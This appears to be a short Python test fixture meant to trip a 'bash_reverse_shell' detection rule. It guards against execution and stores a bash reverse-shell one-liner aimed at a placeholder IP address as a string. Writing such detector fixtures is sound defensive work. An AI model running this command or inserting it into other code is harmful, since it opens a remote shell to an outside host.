# Trips bash_reverse_shell.
raise SystemExit("a fixture: never run")
SCRIPT = r"""
bash -i >& /dev/tcp/192.0.2.1/9 0>&1
"""
